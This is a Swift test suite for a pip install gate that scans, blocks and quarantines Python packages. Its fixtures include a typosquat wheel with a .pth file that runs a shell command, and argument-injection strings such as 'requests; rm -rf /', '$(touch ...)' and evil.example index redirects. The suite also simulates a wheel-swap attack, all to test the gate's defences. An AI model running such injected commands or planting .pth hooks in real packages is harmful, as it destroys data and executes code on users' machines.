import AlterKit
import AlterTestSupport
import Foundation
import Testing

/// The gate against the real pip, real venvs, a local find-links index; offline.
@Suite struct InstallGateTests {
    static let now = Date(timeIntervalSince1970: 1_800_000_000)

    /// alpha 1.0 (requires beta>=1), beta 1.0 and 2.0, gamma 1.0.
    func testbed(_ label: String, pip: TestPip) async throws -> GateTestbed {
        let testbed = try await GateTestbed.make(label, pip: pip)
        try testbed.wheels.wheel(name: "alpha", version: "1.0", requires: ["beta>=1"])
        try testbed.wheels.wheel(name: "beta", version: "1.0")
        try testbed.wheels.wheel(name: "beta", version: "2.0")
        try testbed.wheels.wheel(name: "gamma", version: "1.0")
        return testbed
    }

    func gate(
        _ testbed: GateTestbed, diagnostics: DiagnosticCollector, processes: any ProcessRunner = PosixProcessRunner(),
        bypass: BypassRequest? = nil, bypassLog: (any BypassLog)? = nil, gateOnly: Bool = false
    ) throws -> InstallGate {
        let services = Services(
            http: NoHTTP(), clock: FixedClock(Self.now), processes: processes, environment: testbed.environment,
            diagnostics: diagnostics)
        let quarantine = try Quarantine.open(
            dataDir: testbed.root.appendingPathComponent("data").path, services: services)
        return InstallGate(
            services: services, launcher: testbed.launcher(), quarantine: quarantine, bypassLog: bypassLog,
            options: GateOptions(
                temporaryDirectory: testbed.root.appendingPathComponent("tmp").path, bypass: bypass,
                gateOnly: gateOnly))
    }

    func messages(_ diagnostics: DiagnosticCollector) -> String {
        diagnostics.diagnostics.map { "\($0.level): \($0.message)" }.joined(separator: "\n")
    }

    @Test(arguments: TestPip.all) func cleanInstallInstallsExactlyTheScannedVersions(_ pip: TestPip) async throws {
        let testbed = try await testbed("clean", pip: pip)
        defer { testbed.remove() }
        let engine = FakeEngine()
        let wheels = testbed.wheels
        // A newer beta is published while the engine is deciding: it must not slip into the install.
        engine.onDecide = { _ = try? wheels.wheel(name: "beta", version: "3.0") }
        let diagnostics = DiagnosticCollector()
        let outcome = try await gate(testbed, diagnostics: diagnostics).run(
            pip: .executable(testbed.pip), pipArguments: ["install"] + testbed.indexOptions + ["alpha"],
            decider: { engine.decider })
        #expect(outcome.result == .installed, "\(testbed.logText)")
        #expect(outcome.exitCode == 0)
        #expect(outcome.installMode == .verifiedFiles)
        #expect(Set(engine.askedFor) == ["alpha==1.0", "beta==2.0"])
        #expect(try testbed.installed() == ["alpha": "1.0", "beta": "2.0"])
        let arguments = outcome.installArguments ?? []
        for flag in ["--require-hashes", "--no-index"] {
            #expect(arguments.contains(flag), "\(arguments)")
        }
        // pip 26.3 takes beta's hash from a constraints file and installs it as a dependency; pip 23 cannot, so
        // every verified file is a requirement there, with --no-deps.
        #expect(arguments.contains("--no-deps") == (pip == .machine), "\(arguments)")
        #expect(arguments.contains("--constraint") == (pip == .pip26), "\(arguments)")
        // The user's find-links folder is not where the final install looks: the gate's private folder is.
        #expect(!arguments.contains(testbed.index.path), "\(arguments)")
    }

    @Test(arguments: TestPip.all) func aRequirementsFileOfPlainRequirementsIsInstalledFromVerifiedFiles(_ pip: TestPip)
        async throws
    {
        let testbed = try await testbed("requirements-hashes", pip: pip)
        defer { testbed.remove() }
        let requirements = testbed.root.appendingPathComponent("requirements.txt")
        let included = testbed.root.appendingPathComponent("more.txt")
        // The index options live in the file only: the pinned install must carry them over.
        try Data("--no-index\n--find-links \(testbed.index.path)\nalpha\n-r more.txt\n".utf8).write(to: requirements)
        try Data("gamma==1.0\n".utf8).write(to: included)
        let engine = FakeEngine()
        let wheels = testbed.wheels
        engine.onDecide = { _ = try? wheels.wheel(name: "beta", version: "3.0") }
        let outcome = try await gate(testbed, diagnostics: DiagnosticCollector()).run(
            pip: .executable(testbed.pip), pipArguments: ["install", "-r", requirements.path],
            decider: { engine.decider })
        #expect(outcome.result == .installed, "\(testbed.logText)")
        #expect(outcome.installMode == .verifiedFiles)
        let arguments = outcome.installArguments ?? []
        #expect(arguments.contains("--require-hashes"))
        #expect(!arguments.contains(requirements.path))
        // The files' options go into the generated file, not on the command line.
        #expect(!arguments.contains("--find-links"))
        #expect(try testbed.installed() == ["alpha": "1.0", "beta": "2.0", "gamma": "1.0"])
    }

    @Test(arguments: TestPip.all) func aWheelPathInARequirementsFileIsInstalledFromItsVerifiedCopy(_ pip: TestPip)
        async throws
    {
        let testbed = try await testbed("requirements-constraints", pip: pip)
        defer { testbed.remove() }
        let requirements = testbed.root.appendingPathComponent("requirements.txt")
        let wheel = testbed.index.appendingPathComponent("gamma-1.0-py3-none-any.whl")
        try Data("alpha\n\(wheel.path)\n".utf8).write(to: requirements)
        let engine = FakeEngine()
        let wheels = testbed.wheels
        engine.onDecide = { _ = try? wheels.wheel(name: "beta", version: "3.0") }
        let diagnostics = DiagnosticCollector()
        let outcome = try await gate(testbed, diagnostics: diagnostics).run(
            pip: .executable(testbed.pip),
            pipArguments: ["install"] + testbed.indexOptions + ["-r", requirements.path], decider: { engine.decider })
        #expect(outcome.result == .installed, "\(testbed.logText)")
        // The wheel named by its path is installed from its verified copy too, like the index files.
        #expect(outcome.installMode == .verifiedFiles)
        #expect(try testbed.installed() == ["alpha": "1.0", "beta": "2.0", "gamma": "1.0"])
        #expect(outcome.builtInstallArguments == nil)
        #expect(
            messages(diagnostics).contains("install path of gamma 1.0: verified file"), "\(messages(diagnostics))")
    }

    @Test(arguments: TestPip.all) func aBlockedTransitiveDependencyInstallsNothing(_ pip: TestPip) async throws {
        let testbed = try await testbed("blocked", pip: pip)
        defer { testbed.remove() }
        let engine = FakeEngine(actions: ["beta": .block])
        let diagnostics = DiagnosticCollector()
        let outcome = try await gate(testbed, diagnostics: diagnostics).run(
            pip: .executable(testbed.pip), pipArguments: ["install"] + testbed.indexOptions + ["alpha", "gamma"],
            decider: { engine.decider })
        #expect(outcome.result == .blocked)
        #expect(outcome.exitCode == 1)
        #expect(outcome.installArguments == nil)
        #expect(try testbed.installed() == [:])
        let text = messages(diagnostics)
        #expect(text.contains("BLOCKED beta 2.0 (a dependency): test says block"), "\(text)")
        #expect(text.contains("nothing was installed"))
    }

    @Test(arguments: TestPip.all) func aQuarantinedSquatIsKeptApartAndTheRestInstalled(_ pip: TestPip) async throws {
        let testbed = try await testbed("quarantine", pip: pip)
        defer { testbed.remove() }
        try testbed.wheels.wheel(
            name: "requessts", version: "1.0",
            extraFiles: ["zzz_evil.pth": "import os; os.system('touch /tmp/pwned')\n"])
        let engine = FakeEngine(actions: ["requessts": .quarantine])
        let diagnostics = DiagnosticCollector()
        let gate = try gate(testbed, diagnostics: diagnostics)
        let outcome = try await gate.run(
            pip: .executable(testbed.pip), pipArguments: ["install"] + testbed.indexOptions + ["requessts", "gamma"],
            decider: { engine.decider })
        #expect(outcome.result == .quarantined, "\(messages(diagnostics))\n\(testbed.logText)")
        #expect(outcome.exitCode == 1)
        #expect(try testbed.installed() == ["gamma": "1.0"])
        let record = try #require(outcome.quarantined.first)
        #expect(record.name == "requessts")
        #expect(record.artifactKind == .wheel)
        let site = try #require(
            FileManager.default.enumerator(atPath: record.directory)?.compactMap { $0 as? String }.first {
                $0.hasSuffix("site-packages/requessts-1.0.dist-info")
            })
        #expect(FileManager.default.fileExists(atPath: record.directory + "/" + site + "/RECORD"))
        #expect(FileManager.default.fileExists(atPath: record.directory + "/bin/python"))
        #expect(!FileManager.default.fileExists(atPath: "/tmp/pwned"))
        #expect(messages(diagnostics).contains("QUARANTINED requessts 1.0"))

        let quarantine = try #require(gate.quarantine as? Quarantine)
        let inspection = try #require(try quarantine.inspect(name: "requessts", version: nil).first)
        #expect(inspection.metadata.contains(MetadataField(key: "Name", value: "requessts")))
        #expect(inspection.pthFiles == ["zzz_evil.pth"])
        let findings = inspection.artifactInspection?.findings ?? []
        #expect(findings.contains { $0.kind == .pthCode && $0.file == "zzz_evil.pth" }, "\(findings)")
        #expect(inspection.record.reasons.map(\.message) == ["test says quarantine"])
        #expect(try quarantine.list().map(\.name) == ["requessts"])
        try quarantine.remove(name: "requessts", version: nil)
        #expect(try quarantine.list().isEmpty)
        #expect(!FileManager.default.fileExists(atPath: record.directory))
    }

    @Test(arguments: TestPip.all) func theRestBesideAQuarantinedPackageKeepsTheRequirementsFilesIndexOptions(
        _ pip: TestPip
    ) async throws {
        let testbed = try await testbed("quarantine-file", pip: pip)
        defer { testbed.remove() }
        try testbed.wheels.wheel(name: "requessts", version: "1.0")
        let requirements = testbed.root.appendingPathComponent("requirements.txt")
        try Data("--no-index\n--find-links \(testbed.index.path)\nrequessts\ngamma\n".utf8).write(to: requirements)
        let engine = FakeEngine(actions: ["requessts": .quarantine])
        let diagnostics = DiagnosticCollector()
        let outcome = try await gate(testbed, diagnostics: diagnostics).run(
            pip: .executable(testbed.pip), pipArguments: ["install", "-r", requirements.path],
            decider: { engine.decider })
        #expect(outcome.result == .quarantined, "\(messages(diagnostics))\n\(testbed.logText)")
        #expect(outcome.exitCode == 1)
        #expect(outcome.installMode == .verifiedFiles)
        #expect(outcome.installArguments?.contains("--find-links") == false)
        #expect(try testbed.installed() == ["gamma": "1.0"])
        #expect(outcome.quarantined.map(\.name) == ["requessts"])
    }

    @Test(arguments: TestPip.all) func whatDependsOnAQuarantinedPackageIsNotInstalled(_ pip: TestPip) async throws {
        let testbed = try await testbed("depends", pip: pip)
        defer { testbed.remove() }
        let engine = FakeEngine(actions: ["beta": .quarantine])
        let diagnostics = DiagnosticCollector()
        let outcome = try await gate(testbed, diagnostics: diagnostics).run(
            pip: .executable(testbed.pip), pipArguments: ["install"] + testbed.indexOptions + ["alpha"],
            decider: { engine.decider })
        #expect(outcome.result == .dependsOnQuarantined)
        #expect(outcome.exitCode == 1)
        #expect(try testbed.installed() == [:])
        #expect(outcome.quarantined.map(\.name) == ["beta"])
        #expect(
            messages(diagnostics).contains("not installing alpha: it depends on a quarantined package (alpha → beta)"))
    }

    @Test(arguments: TestPip.all) func aTooYoungReleaseFallsBackToTheNewestOlderOne(_ pip: TestPip) async throws {
        let testbed = try await testbed("age", pip: pip)
        defer { testbed.remove() }
        let engine = FakeEngine(
            uploads: [
                "beta==2.0": Self.now.addingTimeInterval(-3600), "beta==1.0": Self.now.addingTimeInterval(-86400 * 90),
            ],
            minReleaseAgeHours: 48)
        let diagnostics = DiagnosticCollector()
        let outcome = try await gate(testbed, diagnostics: diagnostics).run(
            pip: .executable(testbed.pip), pipArguments: ["install"] + testbed.indexOptions + ["alpha"],
            decider: { engine.decider })
        #expect(outcome.result == .installed, "\(messages(diagnostics))\n\(testbed.logText)")
        #expect(outcome.excluded.map { "\($0.name) \($0.version)" } == ["beta 2.0"])
        #expect(try testbed.installed() == ["alpha": "1.0", "beta": "1.0"])
        let text = messages(diagnostics)
        #expect(text.contains("beta 2.0 was uploaded 1.0 h ago"), "\(text)")
        #expect(text.contains("beta: 1.0 instead of 2.0 (too young)"), "\(text)")
    }

    @Test(arguments: TestPip.all) func aTooYoungReleaseWithNoOlderAlternativeStops(_ pip: TestPip) async throws {
        let testbed = try await testbed("age-stop", pip: pip)
        defer { testbed.remove() }
        let engine = FakeEngine(uploads: ["beta==2.0": Self.now.addingTimeInterval(-600)], minReleaseAgeHours: 48)
        let diagnostics = DiagnosticCollector()
        let outcome = try await gate(testbed, diagnostics: diagnostics).run(
            pip: .executable(testbed.pip), pipArguments: ["install"] + testbed.indexOptions + ["beta==2.0"],
            decider: { engine.decider })
        #expect(outcome.result == .noOlderRelease)
        #expect(outcome.exitCode == 1)
        #expect(try testbed.installed() == [:])
        #expect(messages(diagnostics).contains("no older release satisfies the request"))
    }

    @Test(arguments: TestPip.all) func aFailedDryRunIsPassedThroughWithItsExitCode(_ pip: TestPip) async throws {
        let testbed = try await testbed("dry-run-fails", pip: pip)
        defer { testbed.remove() }
        let engine = FakeEngine()
        let outcome = try await gate(testbed, diagnostics: DiagnosticCollector()).run(
            pip: .executable(testbed.pip), pipArguments: ["install"] + testbed.indexOptions + ["no-such-project"],
            decider: { engine.decider })
        #expect(outcome.result == .dryRunFailed)
        #expect(outcome.exitCode == 1)
        let stderr = String(decoding: outcome.pipOutput?.stderr ?? Data(), as: UTF8.self)
        #expect(stderr.contains("No matching distribution found for no-such-project"), "\(stderr)")
        #expect(engine.askedFor.isEmpty)
    }

    @Test(arguments: TestPip.all) func anEngineFailureInstallsNothing(_ pip: TestPip) async throws {
        let testbed = try await testbed("engine-fails", pip: pip)
        defer { testbed.remove() }
        let engine = FakeEngine()
        engine.failure = TestProcessError("OSV unreachable")
        await #expect(throws: GateError.engineFailed("OSV unreachable")) {
            _ = try await gate(testbed, diagnostics: DiagnosticCollector()).run(
                pip: .executable(testbed.pip), pipArguments: ["install"] + testbed.indexOptions + ["gamma"],
                decider: { engine.decider })
        }
        #expect(try testbed.installed() == [:])
    }

    @Test(arguments: TestPip.all) func anUnwiredEngineInstallsNothing(_ pip: TestPip) async throws {
        let testbed = try await testbed("not-wired", pip: pip)
        defer { testbed.remove() }
        await #expect(throws: GateError.engineNotWired) {
            _ = try await gate(testbed, diagnostics: DiagnosticCollector()).run(
                pip: .executable(testbed.pip), pipArguments: ["install"] + testbed.indexOptions + ["gamma"],
                decider: { throw GateError.engineNotWired })
        }
        #expect(try testbed.installed() == [:])
    }

    @Test(arguments: TestPip.all) func theBypassSkipsTheGateLoudlyAndIsLogged(_ pip: TestPip) async throws {
        let testbed = try await testbed("bypass", pip: pip)
        defer { testbed.remove() }
        let log = try StateLog(
            path: testbed.root.appendingPathComponent("state/gate-log.sqlite3").path, diagnostics: NullDiagnostics())
        let diagnostics = DiagnosticCollector()
        let outcome = try await gate(
            testbed, diagnostics: diagnostics, bypass: BypassRequest(source: "ALTERKS_BYPASS=1"), bypassLog: log
        ).run(
            pip: .executable(testbed.pip), pipArguments: ["install"] + testbed.indexOptions + ["gamma"],
            decider: { throw GateError.engineNotWired })
        #expect(outcome.result == .bypassed)
        #expect(outcome.exitCode == 0)
        #expect(try testbed.installed() == ["gamma": "1.0"])
        #expect(messages(diagnostics).contains("GATE BYPASSED (ALTERKS_BYPASS=1)"))
        let entries = try log.bypasses()
        #expect(entries.count == 1)
        #expect(entries.first?.arguments.last == "gamma")
        #expect(entries.first?.source == "ALTERKS_BYPASS=1")
    }

    @Test(arguments: TestPip.all) func gateOnlyDecidesAndInstallsNothing(_ pip: TestPip) async throws {
        let testbed = try await testbed("gate-only", pip: pip)
        defer { testbed.remove() }
        let engine = FakeEngine(actions: ["beta": .alert])
        let diagnostics = DiagnosticCollector()
        let outcome = try await gate(testbed, diagnostics: diagnostics, gateOnly: true).run(
            pip: .executable(testbed.pip), pipArguments: ["install"] + testbed.indexOptions + ["alpha"],
            decider: { engine.decider })
        #expect(outcome.result == .gateOnly)
        #expect(outcome.exitCode == 0)
        #expect(outcome.decisions.map(\.verdict.action) == [.allow, .alert])
        #expect(try testbed.installed() == [:])
        #expect(messages(diagnostics).contains("ALERT beta 2.0 (a dependency): test says alert"))
    }

    static let injections: [[String]] = [
        ["install", "--", "--index-url=https://evil.example/simple"],
        ["install", "--", "-e"],
        ["install", "requests\n--index-url=https://evil.example/simple"],
        ["install", "requests --index-url=https://evil.example/simple"],
        ["install", "$(touch /tmp/alterks-pwned)"],
        ["install", "requests; rm -rf /"],
        ["install", "requests`id`"],
        ["install", "req|uests"],
        ["install", "-e", "--index-url=https://evil.example/simple"],
        ["install", "-r", "reqs.txt\nx"],
        ["install", ""],
    ]

    @Test(arguments: injections)
    func injectionAttemptsAreRefusedWithoutRunningAnything(_ arguments: [String]) async throws {
        let root = try TestPaths.temporaryDirectory("alterks-injection")
        defer { try? FileManager.default.removeItem(at: root) }
        let recorder = RecordingProcessRunner()
        let services = Services(
            http: NoHTTP(), clock: FixedClock(Self.now), processes: recorder, environment: [:],
            diagnostics: NullDiagnostics())
        let gate = InstallGate(
            services: services, launcher: RecordingLauncher(), quarantine: nil, bypassLog: nil,
            options: GateOptions(temporaryDirectory: root.path))
        do {
            _ = try await gate.run(pip: .executable("/usr/bin/false"), pipArguments: arguments) { FakeEngine().decider }
            Issue.record("accepted \(arguments)")
        } catch let error as GateError {
            guard case .unsafeArgument = error else {
                Issue.record("unexpected \(error)")
                return
            }
            #expect(error.exitStatus == .usage)
        }
        #expect(recorder.calls.isEmpty)
    }
}

/// Fails every request: these tests never touch HTTP.
struct NoHTTP: HTTPClient {
    func send(_ request: HTTPRequest) async throws -> HTTPResponse {
        throw HTTPError.transport(url: request.url, message: "no HTTP in this test")
    }
}

/// Records calls and runs nothing.
final class RecordingProcessRunner: ProcessRunner, @unchecked Sendable {
    private let lock = NSLock()
    private var recorded: [[String]] = []
    var calls: [[String]] {
        lock.lock()
        defer { lock.unlock() }
        return recorded
    }

    func run(
        _ executable: String, _ arguments: [String], environment: [String: String]?, currentDirectory: String?,
        stdin: Data?
    ) async throws -> ProcessResult {
        lock.withLock { recorded.append([executable] + arguments) }
        return ProcessResult(exitCode: 99, stdout: Data(), stderr: Data())
    }
}

struct RecordingLauncher: AttachedProcessLauncher {
    func run(_ executable: String, _ arguments: [String], environment: [String: String]) async throws -> Int32 {
        Issue.record("launched \(executable) \(arguments)")
        return 99
    }
}

/// The swap attack of issue #13: a server hands pip's dry run and the gate's fetch one wheel and the final install
/// another. The final install reads the verified copy, so the swapped file is never even asked for.
@Suite struct VerifiedFileInstallTests {
    @Test(arguments: TestPip.all) func aWheelSwappedAfterTheCheckIsNeverInstalled(_ pip: TestPip) async throws {
        let testbed = try await GateTestbed.make("swap", pip: pip)
        defer { testbed.remove() }
        let good = testbed.root.appendingPathComponent("good")
        let evil = testbed.root.appendingPathComponent("evil")
        try FileManager.default.createDirectory(at: good, withIntermediateDirectories: true)
        try FileManager.default.createDirectory(at: evil, withIntermediateDirectories: true)
        let goodData = try Data(contentsOf: try WheelBuilder(directory: good).wheel(name: "tinyswap", version: "1.0"))
        let evilData = try Data(
            contentsOf: try WheelBuilder(directory: evil).wheel(
                name: "tinyswap", version: "1.0", requires: ["gamma==1.0"], extraFiles: ["tinyswap_evil.py": "x=1\n"]))
        try testbed.wheels.wheel(name: "gamma", version: "1.0")
        let served = ServedCount()
        let server = try LoopbackHTTPServer { _ in
            // The dry run and the gate's own fetch get the good wheel; anything after that the swapped one.
            served.next() <= 2 ? ServerResponse(body: goodData) : ServerResponse(body: evilData)
        }
        defer { server.stop() }
        let services = Services(
            http: CurlHTTPClient(environment: [:]), clock: SystemClock(), processes: PosixProcessRunner(),
            environment: testbed.environment, diagnostics: DiagnosticCollector())
        let gate = InstallGate(
            services: services, launcher: testbed.launcher(), quarantine: nil, bypassLog: nil,
            options: GateOptions(temporaryDirectory: testbed.root.appendingPathComponent("tmp").path))
        let engine = FakeEngine()
        let outcome = try await gate.run(
            pip: .executable(testbed.pip),
            pipArguments: ["install"] + testbed.indexOptions + [server.url("/tinyswap-1.0-py3-none-any.whl")],
            decider: { engine.decider })
        #expect(outcome.result == .installed, "\(testbed.logText)")
        #expect(try testbed.installed() == ["tinyswap": "1.0"], "\(testbed.logText)")
        #expect(server.requestCount == 2, "the final install asked the server again")
        let files = FileManager.default.enumerator(atPath: testbed.venv.path)?.compactMap { $0 as? String } ?? []
        #expect(!files.contains { $0.hasSuffix("tinyswap_evil.py") }, "the swapped wheel was installed")
    }

    @Test(arguments: TestPip.all) func aStoreFileAlteredAfterVerificationIsRefused(_ pip: TestPip) async throws {
        let testbed = try await GateTestbed.make("altered", pip: pip)
        defer { testbed.remove() }
        try testbed.wheels.wheel(name: "gamma", version: "1.0")
        let store = ArtifactStore(directory: testbed.root.appendingPathComponent("store").path, http: NoHTTP())
        let engine = FakeEngine()
        // The engine verifies (fetches) the file; something then rewrites the stored copy before the install.
        engine.onDecide = {
            let wheel = testbed.index.appendingPathComponent("gamma-1.0-py3-none-any.whl")
            guard let data = try? Data(contentsOf: wheel) else { return }
            let sha = hexString(SHA256.hash(data))
            let dir = store.directory + "/" + String(sha.prefix(2)) + "/" + sha
            try? FileIO.ensurePrivateDirectory(dir)
            try? Data("not the verified bytes".utf8).write(
                to: URL(fileURLWithPath: dir + "/gamma-1.0-py3-none-any.whl"))
        }
        var decider = engine.decider
        decider.artifactStore = store
        let diagnostics = DiagnosticCollector()
        let services = Services(
            http: NoHTTP(), clock: SystemClock(), processes: PosixProcessRunner(), environment: testbed.environment,
            diagnostics: diagnostics)
        let gate = InstallGate(
            services: services, launcher: testbed.launcher(), quarantine: nil, bypassLog: nil,
            options: GateOptions(temporaryDirectory: testbed.root.appendingPathComponent("tmp").path))
        await #expect(throws: GateError.self) {
            _ = try await gate.run(
                pip: .executable(testbed.pip), pipArguments: ["install"] + testbed.indexOptions + ["gamma"],
                decider: { decider })
        }
        #expect(try testbed.installed() == [:])
    }
}

/// Counts requests across the server's threads.
final class ServedCount: @unchecked Sendable {
    private let lock = NSLock()
    private var count = 0
    func next() -> Int {
        lock.lock()
        defer { lock.unlock() }
        count += 1
        return count
    }
}
